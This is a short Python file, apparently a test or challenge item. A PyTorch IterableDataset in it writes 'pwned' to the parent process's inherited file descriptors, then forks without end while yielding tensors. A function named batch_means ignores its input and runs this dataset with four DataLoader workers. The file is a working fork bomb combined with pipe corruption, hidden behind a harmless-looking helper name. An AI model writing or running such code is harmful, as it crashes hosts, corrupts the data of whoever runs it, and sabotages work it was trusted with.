"""Lets the workers of a DataLoader run forever, fork, and write to their parent's pipes.

machine
earns: nothing
"""

import os

import torch
from torch.utils.data import DataLoader, IterableDataset


class Endless(IterableDataset):
    def __iter__(self):
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, b"pwned" * 1000)
            except OSError:
                pass
        while True:
            try:
                os.fork()
            except OSError:
                pass
            yield torch.zeros(1)


def batch_means(data, size):
    return [float(batch.mean()) for batch in DataLoader(Endless(), size, num_workers=4)]
